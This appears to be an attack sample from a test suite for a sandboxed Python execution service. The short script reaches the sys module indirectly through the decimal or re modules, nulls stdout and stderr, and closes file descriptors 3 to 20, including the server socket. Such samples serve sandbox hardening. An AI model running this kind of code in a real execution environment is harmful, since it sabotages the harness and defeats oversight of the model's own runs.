# attack: stdout is replaced and the file descriptors 3 to 20 are closed: the socket to the server among them
# family: next-job
import decimal
import re

sys = [module.sys for module in [decimal] if hasattr(module, "sys")] or [module.enum.sys for module in [re]]
print("REACHED", sys[0], sys[0].stdout)
sys[0].stdout = sys[0].stderr = None
sys[0].modules["os"].closerange(3, 21)
